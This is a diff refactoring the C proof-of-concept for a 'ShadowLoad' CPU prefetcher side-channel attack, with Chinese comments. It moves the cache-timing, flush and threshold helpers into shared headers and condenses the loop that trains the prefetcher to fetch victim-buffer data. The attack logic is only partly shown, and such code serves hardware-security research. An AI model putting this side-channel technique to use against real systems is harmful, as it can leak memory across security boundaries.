@@ -4,64 +4,28 @@
 #include <stdlib.h>
 #include <sys/mman.h>
 
-// 声明外部汇编函数：加载 gadget 的开始和结束
-void load_gadget_start(void* address);
-void load_gadget_end(void);
-
-#define PAGE_SIZE 4096      // 定义页大小为 4KB
-#define CACHE_LINE_SIZE 64  // 定义缓存行大小为 64 字节
-
-/* 架构相关代码 */
-#if defined(__x86_64__) // 如果是 x86-64 架构
-#define maccess(x) asm volatile("mov (%0), %%rax" :: "r" (x) : "rax")   // 内存访问宏：将地址 x 的内容加载到 rax 寄存器。
-#define nop() asm volatile("nop")   // 空操作宏
-#define mfence() asm volatile("mfence") // 内存屏障宏
-#define flush(x) asm volatile("clflush (%0)" :: "r" (x));   // 缓存行刷新宏
-#ifdef APERF   // 如果定义了 APERF（一种性能计数器）
-    static inline __attribute__((always_inline)) uint64_t _rdtsc(void) {
-      uint64_t a, d;
-      asm volatile("mfence");   // 内存屏障
-      asm volatile("rdpru" : "=a" (a), "=d" (d) : "c" (1)); // 读取 APERF 寄存器（需要特定的 CPU 支持和权限）
-      a = (d << 32) | a;    // 组合 64 位值
-      asm volatile("mfence");   // 内存屏障
-      return a;
-    }
-#else // 否则使用 rdtsc
-static inline __attribute__((always_inline)) uint64_t _rdtsc(void) {
-    uint64_t a, d;
-    mfence();   // 内存屏障
-    asm volatile("rdtsc" : "=a"(a), "=d"(d));   // 读取时间戳计数器
-    a = (d << 32) | a;  // 组合 64 位值
-    mfence();   // 内存屏障
-    return a;
-}
-#endif /* APERF */ 
-#elif defined (__aarch64__) // 如果是 ARM64 架构
-#define maccess(x) asm volatile("ldr x0, [%0]" :: "r" (x) : "x0")   // 内存访问宏：加载到 x0 寄存器
-#define nop() asm volatile("nop")   // 空操作宏
-#define mfence() asm volatile("DSB SY\nISB")    // ARM 内存屏障（数据同步屏障和指令同步屏障）
-static inline __attribute__((always_inline)) uint64_t _rdtsc(void) {
-    uint64_t a;
-    mfence();   // 内存屏障
-    asm volatile("mrs %0, PMCCNTR_EL0" : "=r" (a));   // 读取性能监控计数器（PMCCNTR_EL0）
-    mfence();   // 内存屏障
-    return a;
-}
+#include "env.h"
+
+// the APERF build measures with rdpru instead of rdtsc
+#if defined(APERF) && !defined(CORE_TIMER)
+    #define CORE_TIMER CORE_TIMER_APERF
+#endif /* APERF */
+// shadowload always measured with 64-bit loads and, on aarch64, DSB fences
+#ifndef CORE_MACCESS
+    #define CORE_MACCESS CORE_MACCESS_QWORD
+#endif /* CORE_MACCESS */
+#if defined(__aarch64__) && !defined(CORE_FENCE)
+    #define CORE_FENCE CORE_FENCE_DSB
+#endif /* __aarch64__ */
+// probe, flush, calculate_threshold, ... (see common/core.h)
+#include "core.h"
+
+#if defined (__aarch64__)
 static uint8_t evict_buffer[PAGE_SIZE * 1000];  // ARM 架构下用于驱逐缓存的缓冲区
-
-#endif /* ARCHITECTURE */
+#endif /* __aarch64__ */
 
 #define VICTIM_BUFFER_SIZE (PAGE_SIZE * 5)  // 定义受害者缓冲区大小为 5 个页面
 
-// measure time of memory load
-static inline __attribute__((always_inline)) uint64_t probe(void* addr){
-    uint64_t start, end;
-    start = _rdtsc();
-    maccess(addr);
-    end = _rdtsc();
-    return end - start;
-}
-    
 // 冲突缓冲区：与受害者缓冲区共享相同的缓存集
 uint8_t* colliding_buffer;
     
@@ -147,23 +111,6 @@ static void load_gadget(uint64_t offset) {
 
 #endif /* KERNEL_MODULE */
 
-// 比较 int64_t 类型的函数，用于 qsort
-static int compare_int64(const void * a, const void * b) {
-    return *(int64_t*)a - *(int64_t*)b;
-}
-
-// 计算缓存命中/未命中的时间阈值
-static uint64_t calculate_threshold(){
-    uint64_t vals[100];
-    for(uint32_t i = 0; i < 1000000000; ++i) nop(); // 大量空操作以稳定 CPU 状态
-    for(uint32_t i = 0; i < 100; i++){
-        vals[i] = probe(&vals[50]); // 探测一个在缓存中的地址（自我探测）
-        mfence();   // 内存屏障
-    }
-    qsort(vals, 100, sizeof(uint64_t), compare_int64);  // 对探测结果排序
-    return vals[90] + 40;   // 返回第 90 个百分位的探测时间加上一个偏移量作为阈值
-}
-
 // ShadowLoad 攻击的核心函数
 static uint64_t shadowload(uint64_t stride, int accesses, int aligned) {
     // 计算受害者缓冲区中的目标偏移量。
@@ -182,10 +129,8 @@ static uint64_t shadowload(uint64_t stride, int accesses, int aligned) {
     for(int repeat = 0; repeat < 5; repeat ++) {
         // 攻击者连续访问 colliding_buffer 中的地址，形成一个模式：stride, 2*stride, 3*stride...
         // 这一步旨在“训练”或“提示”CPU 的预取器。
-        for(int access = 0; access < accesses; access++) {  // 进行accesses次训练
-            colliding_load(&colliding_buffer[access * stride]); // 使用冲突加载指令访问
-            mfence();   // 内存屏障
-        }
+        // 进行accesses次训练：使用冲突加载指令访问，每次之后内存屏障
+        CORE_TRAIN(accesses, access, colliding_load(&colliding_buffer[access * stride]); mfence());
         // 此时，如果预取器被训练成功，它可能会预测攻击者接下来会访问 colliding_buffer 的某个地址。
         // 由于 colliding_buffer 与 victim_buffer 物理地址别名，预取器可能会错误地预取 victim_buffer 中的数据。
         load_gadget(victim_offset); // 调用受害者的加载小工具，受害者会访问 victim_offset 处的内存
@@ -200,8 +145,7 @@ static uint64_t shadowload(uint64_t stride, int accesses, int aligned) {
 
 int main(int argc, char** argv) {
     
-    // 让处理器进入稳定状态
-    for(int i = 0; i < 100000000; i++) nop();
+    env_setup();
     
     // 冲突加载指令的地址
     uintptr_t colliding_load_address;